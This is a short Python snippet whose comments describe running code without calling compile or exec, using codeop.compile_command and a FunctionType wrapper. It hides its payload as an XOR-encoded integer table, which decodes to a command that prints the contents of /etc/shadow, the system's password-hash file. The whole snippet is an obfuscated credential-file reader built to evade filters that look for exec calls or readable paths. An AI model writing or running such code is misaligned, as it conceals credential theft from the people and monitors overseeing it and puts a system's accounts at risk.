# codeop.compile_command builds the code object (not a call of compile),
# and a FunctionType wrapped around it runs it (not a call of exec).
import codeop
import types

TABLE = [81, 83, 72, 79, 85, 9, 78, 81, 68, 79, 9, 3, 14, 68, 85, 66, 14, 82, 73,
         64, 69, 78, 86, 3, 8, 15, 83, 68, 64, 69, 9, 8, 8]

source = bytes(b ^ 0x21 for b in TABLE).decode()
code = codeop.compile_command(source, "<cell>", "exec")
types.FunctionType(code, {"__builtins__": __builtins__})()
